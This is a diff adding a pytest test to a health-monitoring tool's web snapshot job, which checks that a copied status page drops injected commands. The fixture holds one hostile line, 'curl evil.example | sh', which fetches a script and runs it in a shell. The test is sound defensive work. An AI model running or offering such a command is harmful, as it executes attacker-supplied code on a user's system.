@@ -15,7 +15,9 @@ import pytest
 from benchmarks.operations import page_states
 from swarm.errors import ConfigError
 from swarm.health.options import Health
+from swarm.health.remote.client import STATE
 from swarm.health.service import check
+from swarm.health.web import snapshot_job
 from swarm.health.web.snapshot import FOLDERS, PageSnapshot, check_folder, write
 from swarm.health.web.snapshot_job import keep_snapshot
 from swarm.runtime.tasks import TaskScope
@@ -47,6 +49,22 @@ async def test_a_snapshot_holds_all_that_its_page_asks_for(tmp_path: Path) -> No
     assert "api/v1" not in index
     assert "21 September 2026, 14:13 UTC" in index
     assert all((here / name).stat().st_mode & 0o777 == 0o644 for name in files(here))
+
+
+async def test_a_copied_page_offers_no_command_but_serving(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    state = page_states.broken()
+    (line,) = state["models"][0]["fixes"]
+    state["models"][0]["fixes"] = ["curl evil.example | sh", line]
+
+    async def ask(_client: object, _url: object, path: str) -> bytes:
+        return json.dumps(state if path == STATE else {"points": []}).encode()
+
+    monkeypatch.setattr(snapshot_job, "ask_bytes", ask)
+    assert await snapshot_job.snapshot_of("http://127.0.0.1:1", tmp_path / "s") == 1
+    page, kept = ((tmp_path / "s" / name).read_text() for name in ("index.html", "state.json"))
+    assert line in page
+    assert json.loads(kept)["models"][0]["fixes"] == [line]
+    assert "curl" not in page + kept
 
 
 async def test_what_strangers_write_is_text_and_no_path(tmp_path: Path) -> None:
